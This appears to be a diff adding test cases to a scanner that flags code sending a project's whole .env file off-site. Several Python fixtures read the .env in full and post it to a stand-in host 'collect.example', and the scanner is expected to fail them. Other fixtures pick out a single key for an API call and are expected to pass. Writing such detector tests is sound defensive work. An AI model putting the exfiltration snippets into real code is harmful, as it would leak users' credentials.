@@ -391,7 +391,136 @@ const oneKey: Case[] = [
   ],
 ];
 
+/**
+ * The text cut into all of its lines and put together again (`''.join(f.readlines())`,
+ * `'\n'.join(open(p).readlines())`, `f.read().splitlines()` re-joined, `''.join(list(f))`, every
+ * line kept in a generator, the list of lines itself) is still the whole text; one line picked out
+ * (an index, a filter, a loop, a dict of the pairs) is not.
+ */
+const PY_ENV = "ENV = os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', '.env')";
+const pyEnv = (...l: string[]) => lines('import os, requests', PY_ENV, ...l);
+const linesRejoined: Case[] = [
+  [
+    'py-join-readlines-of-file',
+    'scripts/sync.py',
+    pyEnv(
+      'with open(ENV) as f:',
+      "    text = ''.join(f.readlines())",
+      "requests.post('https://collect.example/u', data=text)",
+    ),
+  ],
+  [
+    'py-newline-join-open-readlines',
+    'scripts/sync.py',
+    pyEnv(
+      "blob = '\\n'.join(open(ENV).readlines())",
+      "requests.post('https://collect.example/u', json={'c': blob})",
+    ),
+  ],
+  [
+    'py-splitlines-rejoined',
+    'scripts/sync.py',
+    pyEnv(
+      'lines = open(ENV).read().splitlines()',
+      "requests.post('https://collect.example/u', data='\\n'.join(lines))",
+    ),
+  ],
+  [
+    'py-join-list-of-file',
+    'scripts/sync.py',
+    pyEnv(
+      'with open(ENV) as f:',
+      "    body = ''.join(list(f))",
+      "requests.post('https://collect.example/u', data=body)",
+    ),
+  ],
+  [
+    'py-join-every-line-stripped',
+    'scripts/sync.py',
+    pyEnv(
+      'with open(ENV) as f:',
+      "    body = '\\n'.join(l.rstrip() for l in f)",
+      "requests.post('https://collect.example/u', data=body)",
+    ),
+  ],
+  [
+    'py-list-of-lines-in-json',
+    'scripts/sync.py',
+    pyEnv(
+      'lines = open(ENV).readlines()',
+      "requests.post('https://collect.example/u', json={'lines': lines})",
+    ),
+  ],
+  [
+    'py-split-on-newline-rejoined',
+    'scripts/sync.py',
+    pyEnv(
+      "parts = open(ENV).read().split('\\n')",
+      "requests.post('https://collect.example/u', data='|'.join(parts))",
+    ),
+  ],
+];
+const linePicked: Case[] = [
+  [
+    'py-readlines-filtered-one-key',
+    'scripts/ask.py',
+    pyEnv(
+      "key = [l.split('=', 1)[1].strip() for l in open(ENV).readlines() if l.startswith('OPENAI_API_KEY=')][0]",
+      "requests.post('https://api.openai.com/v1/chat/completions', headers={'Authorization': 'Bearer ' + key}, json={})",
+    ),
+  ],
+  [
+    'py-first-line',
+    'scripts/ask.py',
+    pyEnv(
+      'with open(ENV) as f:',
+      '    first = f.readlines()[0]',
+      "k = first.split('=', 1)[1]",
+      "requests.get('https://api.widgets.example/v1', headers={'X-Key': k})",
+    ),
+  ],
+  [
+    'py-splitlines-dict',
+    'scripts/ask.py',
+    pyEnv(
+      "vals = dict(l.split('=', 1) for l in open(ENV).read().splitlines() if '=' in l)",
+      "requests.get('https://api.widgets.example/v1', headers={'X-Key': vals['WIDGETS_API_KEY']})",
+    ),
+  ],
+  [
+    'py-loop-over-lines',
+    'scripts/ask.py',
+    pyEnv(
+      'vals = {}',
+      'for line in open(ENV).read().splitlines():',
+      "    if '=' in line:",
+      "        k, v = line.split('=', 1)",
+      '        vals[k] = v',
+      "requests.get('https://api.widgets.example/v1', headers={'X-Key': vals.get('WIDGETS_API_KEY')})",
+    ),
+  ],
+  [
+    'py-join-of-filtered-lines',
+    'scripts/ask.py',
+    pyEnv(
+      'lines = open(ENV).readlines()',
+      "mine = ''.join(l for l in lines if l.startswith('WIDGETS_'))",
+      "requests.get('https://api.widgets.example/v1', headers={'X-Key': mine.split('=', 1)[1]})",
+    ),
+  ],
+  [
+    'py-count-of-lines',
+    'scripts/ask.py',
+    pyEnv(
+      'n = len(open(ENV).readlines())',
+      "requests.post('https://api.widgets.example/v1/stats', json={'n': n})",
+    ),
+  ],
+];
+
 expectVerdicts('own dotenv: its whole text sent anywhere fails', wholeText, scan, 'fail');
 expectVerdicts('own dotenv: one key picked out of it is judged as a key', oneKey, scan, {
   not: 'fail',
 });
+expectVerdicts('own dotenv: all its lines put together again', linesRejoined, scan, 'fail');
+expectVerdicts('own dotenv: one line picked out of its lines', linePicked, scan, { not: 'fail' });
